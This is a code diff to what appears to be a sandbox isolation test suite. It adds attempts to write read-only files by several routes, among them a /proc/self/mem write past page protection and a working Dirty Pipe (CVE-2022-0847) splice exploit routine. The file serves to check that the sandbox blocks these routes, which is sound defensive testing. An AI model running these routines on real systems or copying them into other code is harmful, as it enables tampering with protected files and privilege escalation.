@@ -1,6 +1,8 @@
 """Files that are not the sandbox's own."""
 
 import ctypes
+import fcntl
+import mmap
 import os
 import stat
 import struct
@@ -86,6 +88,46 @@ def groups(tries: Tries) -> None:
     found = [Path(folder, name) for folder, _, files in os.walk("/sys/fs/cgroup") for name in names if name in files]
     for path in found:
         tries(str(path), put, str(path), "0")
+
+
+def pages(tries: Tries, *paths: str) -> None:
+    """Files that are only to be read, by the memory they are kept in."""
+    for path in paths:
+        file = os.open(path, os.O_RDONLY)
+        tries(f"shared {path}", mmap.mmap, file, 1, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
+        tries(f"by memory {path}", _write_by_memory, file)
+        tries(f"spliced {path}", _write_by_pipe, file)
+        tries(f"again {path}", os.open, f"/proc/self/fd/{file}", os.O_RDWR)
+        tries(f"mode {path}", os.fchmod, file, 0o777)
+        tries(f"link {path}", os.link, path, "/workspace/linked")
+        tries(f"lease {path}", fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
+
+
+def _write_by_memory(file: int) -> None:
+    """Past the protection of a page, as debuggers do."""
+    room = mmap.mmap(file, 1, mmap.MAP_SHARED, mmap.PROT_READ)
+    # Of what this process has mapped, only this is shared and a file.
+    lines = Path("/proc/self/maps").read_text().splitlines()
+    start = next(line.partition("-")[0] for line in lines if " r--s " in line)
+    with Path("/proc/self/mem").open("r+b", buffering=0) as memory:
+        memory.seek(int(start, 16))
+        memory.write(b"escaped")
+    room.close()
+
+
+def _write_by_pipe(file: int) -> None:
+    """A page that is in a pipe, made longer there (CVE-2022-0847)."""
+    reader, writer = os.pipe()
+    size = fcntl.fcntl(writer, 1032)
+    for _ in range(size // 4096):
+        os.write(writer, bytes(4096))
+    for _ in range(size // 4096):
+        os.read(reader, 4096)
+    before = os.pread(file, 8, 0)
+    os.splice(file, writer, 1, offset_src=0)
+    os.write(writer, b"escaped")
+    if os.pread(file, 8, 0) == before:
+        raise PermissionError(1, "as it was")
 
 
 def superuser(tries: Tries) -> None:
